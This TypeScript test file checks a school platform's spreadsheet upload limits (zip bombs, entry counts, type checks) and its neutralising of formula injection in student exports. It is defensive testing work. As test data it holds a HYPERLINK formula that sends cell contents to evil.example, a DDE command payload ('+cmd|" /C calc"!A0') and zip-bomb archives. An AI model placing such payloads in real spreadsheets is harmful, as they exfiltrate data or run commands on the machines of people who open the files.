// Uploaded spreadsheets are checked before anything unzips them (type by magic bytes, size, entry count,
// unzipped size, with a hard cap that catches archives lying about their sizes), and every exported
// cell holding user text is safe from formula injection.
import * as XLSX from 'xlsx'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ADMIN_PASSWORD, PLATFORM_HOST, createHarness, type Harness } from '../setup/api-harness'
import { multipart } from '../factories/assessments'
import { zip } from '../factories/spreadsheets'
import { SPREADSHEET_LIMITS, assertSafeSpreadsheet } from '../../src/server/lib/spreadsheet-upload'
import { HttpError } from '../../src/server/lib/http-error'
import { neutraliseFormula } from '../../src/server/lib/xlsx'
import { api } from '../../src/shared/api'

const refusal = (fn: () => unknown) => {
  try {
    fn()
  } catch (e) {
    if (e instanceof HttpError) return { status: e.status, message: e.errors[0]! }
    throw e
  }
  return null
}

const small = { ...SPREADSHEET_LIMITS, maxUncompressedBytes: 1024 * 1024 }

describe('spreadsheet upload checks', () => {
  it('accepts a real workbook', () => {
    const book = XLSX.utils.book_new()
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([['a', 'b'], [1, 2]]), 'S')
    const bytes = XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer
    expect(assertSafeSpreadsheet('list.xlsx', bytes, 'en', 'file')).toBe('xlsx')
  })

  it('refuses a zip bomb by its declared size, and one that lies about its size by inflating with a cap', () => {
    const zeros = new Uint8Array(5 * 1024 * 1024)
    const honest = refusal(() => assertSafeSpreadsheet('bomb.xlsx', zip([{ name: 'xl/sheet.xml', data: zeros }]), 'en', 'file', small))
    expect(honest).toEqual({ status: 413, message: expect.stringMatching(/more than 1 MB.*unsafe/) })
    const liar = refusal(() => assertSafeSpreadsheet('bomb.xlsx', zip([{ name: 'xl/sheet.xml', data: zeros, declaredSize: 10 }]), 'ar', 'file', small))
    expect(liar?.status).toBe(413)
    expect(liar?.message).toMatch(/[\u0600-\u06FF]/)
  })

  it('refuses too many entries, a damaged archive and a file whose bytes are not its type', () => {
    const many = zip(Array.from({ length: SPREADSHEET_LIMITS.maxEntries + 1 }, (_, i) => ({ name: `f${i}`, data: new Uint8Array(1), store: true })))
    expect(refusal(() => assertSafeSpreadsheet('many.xlsx', many, 'en', 'file'))?.status).toBe(413)
    expect(refusal(() => assertSafeSpreadsheet('cut.xlsx', zip([{ name: 'a', data: new Uint8Array(100) }]).subarray(0, 60), 'en', 'file'))?.status).toBe(400)
    expect(refusal(() => assertSafeSpreadsheet('doc.xlsx', Buffer.from('%PDF-1.7 not a zip'), 'en', 'file'))?.message).toMatch(/must really be one/)
    expect(refusal(() => assertSafeSpreadsheet('zip.xls', zip([{ name: 'a', data: new Uint8Array(1) }]), 'en', 'file'))?.status).toBe(400)
    expect(refusal(() => assertSafeSpreadsheet('big.xlsx', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(11 * 1024 * 1024)]), 'en', 'file'))?.status).toBe(413)
  })
})

describe('uploads and downloads through the API', () => {
  let h: Harness
  beforeAll(async () => {
    h = await createHarness()
  })
  afterAll(async () => {
    await h?.close()
  })

  it('refuses a zip bomb uploaded as a library spreadsheet with a clear message', async () => {
    const token = await h.login('admin', ADMIN_PASSWORD, PLATFORM_HOST)
    // 150 MB of zeros, about 150 kB compressed, declared as 1 kB.
    const bomb = zip([{ name: '[Content_Types].xml', data: new Uint8Array(150 * 1024 * 1024), declaredSize: 1024 }])
    expect(bomb.length).toBeLessThan(1024 * 1024)
    const res = await multipart(h, 'POST', '/api/upload-assessment-library/', { token, files: { assessmentlibrary_excel: { name: 'bomb.xlsx', type: 'application/octet-stream', bytes: bomb } } })
    expect(res.status).toBe(413)
    expect(res.body.message.fields.assessmentlibrary_excel[0]).toMatch(/unsafe/)
  })

  it('exports a student named "=HYPERLINK(...)" as text, never as a formula', async () => {
    const token = await h.login('institution.admin@sample.test')
    const schoolId = (await h.request('GET', api.mySchools, { token })).body.payload.results[0].id
    const year = (await h.request('GET', api.academicYears, { token })).body.payload.results[0]
    const classId = (await h.request('GET', `/api/school/${schoolId}/class/`, { token })).body.payload.results[0].id
    const evil = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'
    const created = await h.request('POST', `/api/school/${schoolId}/year/${year.id}/student/`, {
      token,
      json: { first_name: evil, last_name: '+cmd|" /C calc"!A0', arabic_name: 'طالب', enrollment_code: 'SMPL-49999', gender: 'm', user_field_1: '@SUM(1+1)', class_relation: classId },
    })
    expect(created.status, JSON.stringify(created.body)).toBeLessThan(300)
    const res = await h.app.request(`http://sample.localhost:8080/api/student/download/?school=${schoolId}&year=${year.id}`, { headers: { host: 'sample.localhost:8080', authorization: `Bearer ${token}` } })
    expect(res.status).toBe(200)
    const book = XLSX.read(new Uint8Array(await res.arrayBuffer()), { type: 'array', cellFormula: true })
    const sheet = book.Sheets[book.SheetNames[0]!]!
    const cells = Object.entries(sheet).filter(([k]) => !k.startsWith('!')).map(([, c]) => c as XLSX.CellObject)
    expect(cells.some((c) => c.f)).toBe(false)
    const values = cells.map((c) => String(c.v))
    expect(values).toContain(`'${evil}`)
    expect(values).toContain(`'+cmd|" /C calc"!A0`)
    expect(values).toContain(`'@SUM(1+1)`)
    expect(values.filter((v) => /^[=+@]/.test(v))).toEqual([])
  })

  it('keeps numbers and phone numbers written as text unchanged', () => {
    expect(neutraliseFormula('+971 50 123 4567')).toBe('+971 50 123 4567')
    expect(neutraliseFormula('-5')).toBe('-5')
    expect(neutraliseFormula('-1+cmd')).toBe("'-1+cmd")
    expect(neutraliseFormula('\t=1')).toBe("'\t=1")
    expect(neutraliseFormula(12)).toBe(12)
  })
})
